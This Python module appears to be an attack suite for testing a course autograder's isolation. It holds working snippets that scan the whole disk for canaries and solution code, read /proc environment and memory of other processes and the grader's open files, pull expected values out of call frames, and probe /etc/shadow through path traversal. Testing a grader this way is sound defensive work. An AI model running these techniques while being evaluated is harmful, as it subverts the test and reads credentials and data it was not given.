"""Reading what the answers are, to use them or to show them."""

from teaching.attacks import Attack, at_import, in_calls

# Whatever is found is told in an error: students see those of public tests.
TELL = """
import os, re
found = []
WORTH = re.compile(rb"CANARY-[0-9a-f]+|[^\\n]*(?:argmax\\(dim=1\\) ==|counts \\* level|PREDICTED =|SMALL_LR =)[^\\n]*")
def look(data):
    for each in WORTH.findall(data):
        if each not in found:
            found.append(each)
def attack(*args, **options):
    raise RuntimeError(b"\\n".join(found)[-1900:].decode(errors="replace") or "nothing")
"""

READING = [
    Attack(
        "all files of the disk", "tests, hidden tests, solutions and notes are somewhere",
        in_calls(TELL + """
import time
end = time.time() + 10
SKIPPED = ("/proc", "/sys", "/usr", "/lib", "/dev")
for place, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if not os.path.join(place, f).startswith(SKIPPED)
                  and f not in ("torch", "nvidia", "numpy", "scipy", "pandas", "sympy")]
    for name in names:
        if time.time() < end and name.endswith((".py", ".pyc", ".ipynb", ".json", ".txt", ".md", ".npy", "canary")):
            try:
                with open(os.path.join(place, name), "rb") as file:
                    look(file.read(2_000_000))
            except OSError:
                pass
"""),
    ),
    Attack(
        "an installed solution", "the package may be installed where this Python imports from",
        in_calls(TELL + """
import importlib.metadata, importlib.util, site, sys
for place in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]:
    for name in ("optimizer", "dl_utils", "stats_helper"):
        try:
            with open(os.path.join(place, "scene_recog", name + ".py"), "rb") as file:
                look(file.read())
        except OSError:
            pass
for name in ("__editable___scene_recog_0_1_0_finder", "conftest", "unit_tests.conftest", "teaching.variants"):
    try:
        __import__(name)
        look(open(sys.modules[name].__file__, "rb").read())
        for each in getattr(sys.modules[name], "MAPPING", {}).values():
            look(open(os.path.join(each, "optimizer.py"), "rb").read())
    except Exception:
        pass
"""),
    ),
    Attack(
        "environment and memory of all processes", "the grader's is among them",
        in_calls(TELL + """
for number in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        try:
            with open(f"/proc/{number}/{name}", "rb") as file:
                look(file.read())
        except OSError:
            pass
    if number == str(os.getpid()):
        continue
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
            found.append(b"CAN-READ-MEMORY-OF " + number.encode())
    except OSError:
        pass
"""),
    ),
    Attack(
        "descriptors and the process above", "files that the grader has open",
        in_calls(TELL + """
for number in ("self", os.getppid(), 1):
    for kind in ("fd", "root", "cwd", "task"):
        try:
            for name in os.listdir(f"/proc/{number}/{kind}"):
                try:
                    with open(f"/proc/{number}/{kind}/{name}", "rb") as file:
                        os.set_blocking(file.fileno(), False)
                        look(file.read(1_000_000) or b"")
                except OSError:
                    pass
        except OSError:
            pass
"""),
    ),
    Attack(
        "frames and objects in memory", "expected values stand in the frames that called",
        in_calls("""
            import gc, sys
            def attack(*args, **options):
                frame, seen = sys._getframe(), []
                while frame:
                    seen.append((frame.f_code.co_name, sorted(frame.f_locals), sorted(frame.f_globals)))
                    for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
                        if name in ("expected", "TARGETS", "PREDICTED", "LR", "counts", "pixels"):
                            return value
                    frame = frame.f_back
                for each in gc.get_objects():
                    if isinstance(each, dict) and ("expected" in each or "PREDICTED" in each):
                        return each.get("expected", each.get("PREDICTED"))
                raise RuntimeError(str(seen)[-1800:])
        """, "optimizer", "stats_helper", "dl_utils"), base="wrong",
    ),
    Attack(
        "the oracle of the stand-ins", "the grader itself computes accuracy, labels and the dataset",
        at_import("""
            import sys
            def oracle():
                import gc
                for each in sys.meta_path:
                    if hasattr(each, "ask"):
                        return lambda name, *args: each.ask(name, args, {})
            def compute_accuracy(logits, labels):
                return oracle()("accuracy", logits, labels)
            def predict_labels(model, x):
                return oracle()("labels", model(x))
        """, "dl_utils") | at_import("""
            import sys
            from torch.utils.data import Dataset
            def oracle():
                for each in sys.meta_path:
                    if hasattr(each, "ask"):
                        return lambda name, *args: each.ask(name, args, {})
            class ImageLoader(Dataset):
                def __init__(self, root_dir, split="train", transform=None):
                    self.root, self.split, self.transform = root_dir, split, transform
                    self.curr_folder = f"{root_dir}/{split}"
                    self.class_dict, self.dataset = oracle()("listed", root_dir, split)
                def get_classes(self):
                    return self.class_dict
                def load_img_from_path(self, path):
                    return oracle()("image", path)
        """, "image_loader"),
    ),
    Attack(
        "files outside, by the oracle", "the grader opens what the student may not",
        at_import("""
            import sys
            told = []
            for each in sys.meta_path:
                if hasattr(each, "ask"):
                    for path in ("/etc/passwd", "/root", "../../../../etc/shadow", "/proc/self/environ"):
                        for name, args in (("image", (path,)), ("listed", (path, "..")), ("labels", (path,)),
                                           ("__import__", ("os",)), (0, (path,)), (-1, ()), (None, ())):
                            try:
                                told.append(repr(each.ask(name, args, {})))
                            except Exception as error:
                                told.append(str(error))
            raise RuntimeError(str(told)[:1900])
        """, "confusion_matrix"),
    ),
    Attack(
        "what hidden tests ask, told by another file", "public errors show what hidden tests use",
        {
            file: code.replace("FILE", file) for file, code in in_calls("""
            import glob, os
            PLACES = (".", "/tmp", "/dev/shm", os.path.dirname(__file__))
            def remembered():
                text = ""
                for place in PLACES:
                    for path in sorted(glob.glob(f"{place}/asked-*")):
                        text += open(path).read()
                return text
            def attack(*args, **options):
                before = remembered()
                for place in PLACES:
                    try:
                        with open(f"{place}/asked-FILE", "a") as file:
                            file.write(repr((args[1:], options, [os.walk(str(a)) and
                                [n for _, _, n in os.walk(str(a))] for a in args]))[:900])
                    except OSError:
                        pass
                raise RuntimeError(before[-1900:] or "nothing yet")
            if len(remembered()) > 2500:
                raise RuntimeError(remembered()[-1900:])
            """, "optimizer", "stats_helper", "dl_utils", "data_transforms").items()
        },
    ),
    Attack(
        "the worker's own references", "copies and callbacks of the grader are in the session",
        in_calls("""
            import gc
            def attack(*args, **options):
                for each in gc.get_objects():
                    if type(each).__name__ == "Session":
                        for number in range(5):
                            try:
                                each.ask(number, (), {})
                            except Exception:
                                pass
                        return list(each.copies.values()) or 0.5
        """, "optimizer", "stats_helper", "dl_utils", "data_transforms"), base="wrong",
    ),
]  # fmt: skip
